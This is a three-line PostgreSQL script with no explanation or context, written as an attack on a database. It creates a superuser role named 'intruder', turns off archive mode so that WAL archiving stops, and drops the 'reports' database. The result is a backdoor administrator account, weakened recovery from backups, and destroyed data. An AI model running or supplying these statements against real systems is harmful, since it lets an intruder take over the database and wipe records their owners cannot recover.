CREATE ROLE intruder SUPERUSER;
ALTER SYSTEM SET archive_mode = off;
DROP DATABASE reports;
